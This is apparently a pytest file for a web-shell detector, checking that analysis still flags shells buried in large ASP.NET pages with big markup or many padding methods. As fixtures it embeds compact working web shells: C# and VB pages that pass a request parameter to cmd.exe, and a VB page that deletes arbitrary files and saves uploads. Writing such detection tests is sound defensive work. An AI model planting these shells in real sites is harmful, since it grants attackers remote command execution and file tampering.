"""Big pages from the fifteenth unseen collection's work (issue 14, helper X17): shells inside big pages.

The collection itself could not be made (BENCHMARKS.md, "Unseen shells, fifteenth collection: big shells"):
the library's look-up budget was used up before its first read. What was measured instead is how the behaviour
analysis copes with size, on the shared corpus' real shells placed in big pages: 143 of 143 stay found with
110 KB of client markup before or after their code, and 85 of 85 C# shells with 400 harmless methods added;
but the analysis time grew with the square of a page's method count (a shell with 1,600 one-line methods ran
past the 5 s per-file budget and lost its finding) until A3's d9c26fe made it linear. The pages below keep: a command page with 110 KB of markup before or after its code, a VB file manager of many small methods,
and a C# command page among 300 methods; a VB command page among 1,600 functions (past the budget before A3's
d9c26fe); and the same big pages without a dangerous operation stay silent. All pages were written for these
tests: nothing is compiled or run, the commands are placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import page_hits

CS_CMD = (
    '<script runat="server">\n'
    "void Page_Load(object sender, EventArgs e) {\n"
    '  string c = Request.Form["c"];\n'
    "  if (c == null) return;\n"
    '  var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);\n'
    "  si.UseShellExecute = false; si.RedirectStandardOutput = true;\n"
    "  Response.Write(Server.HtmlEncode(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd()));\n"
    "}\n</script>\n"
)
CS_QUIET = (
    '<script runat="server">\n'
    "void Page_Load(object sender, EventArgs e) {\n"
    '  string c = Request.Form["c"];\n'
    '  Response.Write(Server.HtmlEncode(c ?? "(none)"));\n'
    "}\n</script>\n"
)


def _markup(size: int) -> str:
    """Client-side user interface of a big page: style rules, a table of rows and a script, no server code."""
    css = "".join(f".c{i} {{ color: #{i % 4096:03x}; margin: {i % 9}px; }}\n" for i in range(400))
    js = "".join(f"function f{i}(el) {{ el.className = 'c{i}'; return false; }}\n" for i in range(300))
    rows = []
    total = len(css) + len(js)
    i = 0
    while total < size:
        row = f'<tr class="c{i % 400}"><td>item {i}</td><td><a href="#" onclick="return f{i % 300}(this)">open</a></td></tr>\n'
        rows.append(row)
        total += len(row)
        i += 1
    return f"<style>\n{css}</style>\n<table>\n{''.join(rows)}</table>\n<script>\n{js}</script>\n"


def _cs_methods(count: int) -> str:
    return "".join(f"int Pad{i}(int a) {{ return a * 3 + {i}; }}\n" for i in range(count))


BIG_UI = _markup(110_000)
DIRECTIVE = '<%@ Page Language="C#" %>\n'

VB_FILE_MANAGER = (
    '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
    + "".join(
        f"Function Size{i}(ByVal n As Long) As String\n  Return (n \\ {i + 1}).ToString()\nEnd Function\n"
        for i in range(120)
    )
    + "Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)\n"
    '  Dim target As String = Request.QueryString("del")\n'
    "  If Not String.IsNullOrEmpty(target) Then\n"
    "    File.Delete(target)\n"
    "  End If\n"
    '  Dim up As HttpPostedFile = Request.Files("up")\n'
    "  If up IsNot Nothing Then\n"
    '    up.SaveAs(Server.MapPath(".") & "\\" & Request.Form("name"))\n'
    "  End If\n"
    "End Sub\n</script>\n" + BIG_UI
)

VB_CMD_AMONG_FUNCTIONS = (
    '<%@ Page Language="VB" %>\n<script runat="server">\n'
    + "".join(
        f"Function G{i}(ByVal a As Integer) As Integer\n  Return a + {i}\nEnd Function\n" for i in range(1600)
    )
    + "Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)\n"
    '  System.Diagnostics.Process.Start("cmd.exe", "/c " & Request.Form("c"))\n'
    "End Sub\n</script>\n"
)

BIG_PAGES = [
    ("cs-cmd-after-110kb-ui", DIRECTIVE + BIG_UI + CS_CMD, "process"),
    ("cs-cmd-before-110kb-ui", DIRECTIVE + CS_CMD + BIG_UI, "process"),
    (
        "cs-cmd-among-300-methods",
        DIRECTIVE + '<script runat="server">\n' + _cs_methods(300) + "</script>\n" + CS_CMD,
        "process",
    ),
    ("vb-file-manager-120-functions", VB_FILE_MANAGER, "file-write"),
    # 4.2 s before d9c26fe (call sites searched once per function and round), 0.7 s after
    ("vb-cmd-among-1600-functions", VB_CMD_AMONG_FUNCTIONS, "process"),
]

QUIET_PAGES = [
    ("cs-echo-after-110kb-ui", DIRECTIVE + BIG_UI + CS_QUIET),
    (
        "cs-echo-among-300-methods",
        DIRECTIVE + '<script runat="server">\n' + _cs_methods(300) + "</script>\n" + CS_QUIET,
    ),
]


@pytest.mark.parametrize(("case", "page", "sink"), BIG_PAGES, ids=[c[0] for c in BIG_PAGES])
def test_big_page_fully_analysed_and_found(
    tmp_path: Path, params: content.ContentParams, case: str, page: str, sink: str
) -> None:
    assert len(page) > 10_000
    hits = [h for h in page_hits(tmp_path, f"{case}.aspx", page, params) if h["check"] == "behaviour"]
    assert sink in {h["sink"] for h in hits}, hits


@pytest.mark.parametrize(("case", "page"), QUIET_PAGES, ids=[c[0] for c in QUIET_PAGES])
def test_big_page_without_dangerous_operation_is_silent(
    tmp_path: Path, params: content.ContentParams, case: str, page: str
) -> None:
    assert page_hits(tmp_path, f"{case}.aspx", page, params) == []
